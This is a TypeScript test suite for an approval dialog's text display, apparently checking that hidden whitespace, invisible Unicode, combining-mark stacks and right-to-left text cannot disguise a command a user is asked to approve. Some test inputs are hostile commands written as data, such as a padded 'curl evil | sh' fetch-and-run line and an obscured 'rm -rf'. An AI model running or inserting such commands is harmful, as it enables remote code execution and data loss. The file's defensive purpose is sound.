/**
 * An approval dialog's marks can't be forged: every `⟨…⟩` and `↵` the dialog shows is a mark, because the text's own
 * `⟨`, `⟩`, `↵` and their look-alikes are named, so what is shown parses back to exactly one source text. Also:
 * every default-ignorable character and the Braille blank are named, combining marks are named where they could
 * draw over something other than a letter's accent, and right-to-left letters bring a warning.
 */
import { strict as assert } from "node:assert";
import { marksLegend, showExactly, visibleInline } from "../../server/src/shared/approvalText";

/** Reads one display line's marks back into source text; throws on a mark character that is not part of a mark. */
function decodeMarks(line: string): string {
  let source = "";
  for (let i = 0; i < line.length; ) {
    const char = line[i];
    if (char === "⟨") {
      const end = line.indexOf("⟩", i);
      assert.ok(end > i, `an unclosed mark in ${JSON.stringify(line)}`);
      const inner = line.slice(i + 1, end);
      const code = /^U\+([0-9A-F]{4,6})$/.exec(inner);
      const spaces = /^(\d+) spaces$/.exec(inner);
      if (code) source += String.fromCodePoint(Number.parseInt(code[1], 16));
      else if (spaces) source += " ".repeat(Number(spaces[1]));
      else assert.fail(`not a mark: ${JSON.stringify(inner)}`);
      i = end + 1;
    } else {
      assert.ok(char !== "⟩" && char !== "↵", `an unmarked ${char} in ${JSON.stringify(line)}`);
      source += char;
      i++;
    }
  }
  return source;
}

/** The source of a dialog's text: a display line ending in ↵ ended a source line, any other break was a wrap. */
function parseShown(shown: string): string {
  return shown
    .split("\n")
    .map((line) => (line.endsWith("↵") ? `${decodeMarks(line.slice(0, -1))}\n` : decodeMarks(line)))
    .join("");
}

/** The source of a short name: ↵ anywhere is a line break. */
function parseInline(shown: string): string {
  return shown
    .split("↵")
    .map((part) => decodeMarks(part))
    .join("\n");
}

const name = (code: number) => `⟨U+${code.toString(16).toUpperCase().padStart(4, "0")}⟩`;

describe("approval dialogs' marks", () => {
  it("names the text's own mark characters and their look-alikes, so a mark written in the text is not a mark", () => {
    const forged = ["⟨40 spaces⟩", "⟨U+200B⟩", "↵", "〈40 spaces〉", "〈U+200B〉", "＜U+200B＞", "‹U+200B›", "⏎", "↩"];
    for (const text of forged) {
      const shown = showExactly(`npm test ${text}`).text;
      assert.equal(parseShown(shown), `npm test ${text}`, shown);
      assert.ok(!/⟨(U\+200B|40 spaces)⟩/.test(shown), shown);
    }
    assert.equal(showExactly("a⟨40 spaces⟩b").text, "a⟨U+27E8⟩40 spaces⟨U+27E9⟩b");
    assert.equal(showExactly("npm test↵").text, "npm test⟨U+21B5⟩");
    assert.equal(visibleInline("a↵b⟩"), "a⟨U+21B5⟩b⟨U+27E9⟩");
    // The review's attack: ASCII `<40 spaces>` (bash reads `<40` as a redirection) is not what 40 spaces look like.
    const real = showExactly(`npm test${" ".repeat(40)}; curl evil | sh`).text;
    const fake = showExactly("npm test<40 spaces>; curl evil | sh").text;
    assert.equal(real, "npm test⟨40 spaces⟩; curl evil | sh");
    assert.equal(fake, "npm test<40 spaces>; curl evil | sh");
    assert.notEqual(real, fake);
  });

  it("names every default-ignorable character, private-use and unassigned ones, and the Braille blank", () => {
    const codes = [
      0x2065,
      ...Array.from({ length: 9 }, (_, i) => 0xfff0 + i),
      0xe0000,
      0xe0001,
      0xe007f,
      0xe0fff,
      ...[0x115f, 0x1160, 0x3164, 0xffa0, 0x180e, 0x2800, 0x17b4, 0x17b5, 0x1bca0, 0x1d173, 0x180b, 0xfe00],
      ...[0xe000, 0xf8ff, 0xf0000, 0x0378],
    ];
    for (const code of codes) {
      const char = String.fromCodePoint(code);
      assert.equal(showExactly(`git${char}status`).text, `git${name(code)}status`, name(code));
      assert.equal(visibleInline(`git${char}status`), `git${name(code)}status`, name(code));
    }
  });

  it("leaves up to two combining marks on a letter, and names stacks and marks on anything else", () => {
    for (const text of ["café", "cafe\u0301", "ệ", "e\u0323\u0302", "עִבְרִית", "क्षि", "ก่"])
      assert.equal(showExactly(text).text, text, text);
    assert.equal(showExactly("e\u0301\u0302\u0303").text, "e⟨U+0301⟩⟨U+0302⟩⟨U+0303⟩", "a stack of three");
    const zalgo = `rm${"\u0336\u0335\u0334".repeat(5)} -rf`;
    assert.equal(parseShown(showExactly(zalgo).text), zalgo);
    assert.ok(!/\p{M}/u.test(showExactly(zalgo).text), showExactly(zalgo).text);
    // On a symbol, a space, at the start, or after a named character: an overlay turns `>` into something else.
    assert.equal(showExactly("a >\u0338 b").text, "a >⟨U+0338⟩ b");
    assert.equal(showExactly("a \u20D2b").text, "a ⟨U+20D2⟩b");
    assert.equal(showExactly("\u0301x").text, "⟨U+0301⟩x");
    assert.equal(showExactly("a\u200b\u0301").text, "a⟨U+200B⟩⟨U+0301⟩");
    assert.equal(showExactly("|\u20E5").text, "|⟨U+20E5⟩");
  });

  it("warns about right-to-left letters, which reorder what is shown without any control character", () => {
    for (const text of ["cp 1 א 2 b", "echo مرحبا 10", "rm -rf ܐ", "x \u07C0"])
      assert.match(marksLegend(showExactly(text).text), /right-to-left letters, which may reorder what you see/, text);
    for (const text of ["npm test", "echo 日本語 ελληνικά", "café"]) assert.equal(marksLegend(showExactly(text).text), "");
    const both = marksLegend(showExactly("a\u202eב").text).split("\n");
    assert.equal(both.length, 2, both.join("|"));
  });

  it("parses back to exactly its source, for random hostile texts", () => {
    const alphabet = [
      ..."ab <>4:",
      "⟨",
      "⟩",
      "↵",
      "〈",
      "⏎",
      "…",
      "U+200B",
      "⟨U+200B⟩",
      "⟨40 spaces⟩",
      "<40 spaces>",
      " ".repeat(4),
      " ".repeat(9),
      "\n",
      "\r",
      "\t",
      "\u200b",
      "\u202e",
      "\u2066",
      "\u00a0",
      "\u3164",
      "\u2800",
      "\ufeff",
      "\ud800",
      "\udc00",
      "\u{e0041}",
      "\u{1f600}",
      "\ufe0f",
      "\u0301",
      "\u0338",
      "e",
      "א",
      "1",
      "\u0085",
    ];
    let seed = 25;
    const random = () => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    const seen = new Map<string, string>();
    for (let round = 0; round < 3000; round++) {
      const length = Math.floor(random() * 40);
      const text = Array.from({ length }, () => alphabet[Math.floor(random() * alphabet.length)]).join("");
      const columns = 8 + Math.floor(random() * 80);
      const shown = showExactly(text, { columns, maxLines: Number.POSITIVE_INFINITY });
      assert.equal(shown.hiddenChars, 0);
      assert.equal(parseShown(shown.text), text, JSON.stringify({ text, shown: shown.text }));
      assert.equal(parseInline(visibleInline(text)), text, JSON.stringify(text));
      const key = `${columns}:${shown.text}`;
      const earlier = seen.get(key);
      assert.ok(earlier === undefined || earlier === text, `two texts show the same: ${JSON.stringify([earlier, text])}`);
      seen.set(key, text);
    }
  });

  it("cuts a long name at a whole mark, and says so with a mark", () => {
    assert.equal(visibleInline("ab\u200bcd", 4), "ab⟨…⟩");
    assert.equal(visibleInline("ab\u200bcd", 10), "ab⟨U+200B⟩⟨…⟩");
  });
});
